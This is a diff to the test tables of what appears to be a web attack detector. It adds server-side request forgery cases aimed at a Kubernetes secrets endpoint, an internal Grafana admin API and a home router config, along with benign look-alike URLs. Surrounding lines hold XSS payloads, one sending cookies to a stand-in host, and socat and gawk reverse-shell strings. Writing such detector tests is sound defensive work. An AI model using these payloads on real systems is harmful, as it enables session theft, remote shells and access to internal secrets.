@@ -120,6 +120,10 @@ var recallBlock = []struct {
 	{"script string breakout with a call", query("id", "'-alert(1)-'")},
 	{"script string breakout reading the cookie", query("name", `"+fetch('//x.example/'+document.cookie)+"`)},
 
+	{"fetch url to the kubernetes api", query("url", "http://kubernetes.default.svc/api/v1/namespaces/default/secrets")},
+	{"webhook to a cluster service", post("application/json", `{"webhook":{"url":"http://grafana.monitoring.svc:3000/api/admin"}}`)},
+	{"fetch url to a home network name", query("image_url", "http://router.home.arpa/cgi-bin/config")},
+
 	// Shells and scripts handed to a network peer, whole values.
 	{"socat program address", query("host", "socat TCP:203.0.113.9:9001 EXEC:bash")},
 	{"gawk network file", post("application/json", `{"target":"awk 'BEGIN{s=\"/inet/tcp/0/203.0.113.9/9001\";while(1){s|&getline c;print c|&s}}'"}`)},
@@ -174,6 +178,8 @@ var recallBenign = []struct {
 	{"exec prefix in a config key", query("q", "exec:shutdown-hook")},
 	{"ldap filter with an empty and", query("filter", "(&)")},
 	{"quoted alternatives", query("sort", `'name' | 'date'`)},
+	{"public host with svc in its name", query("url", "https://docs.svc.example.com/guide")},
+	{"public host ending like a lan", query("url", "https://www.milan/")},
 	{"quoted call without operators at both ends", query("title", `"Hello (world)"`)},
 	{"freemarker new explained in prose", post("application/json", `{"comment":"In FreeMarker the ?new() built-in creates an object of a TemplateModel class; the docs list which classes are allowed by default"}`)},
 	{"powershell cradle explained in markdown", post("application/json", `{"body":"## Detecting cradles\n\nAttackers often run `+"`IEX(New-Object Net.WebClient).DownloadString(url)`"+` to fetch a script; log PowerShell script blocks to see it.\n"}`)},
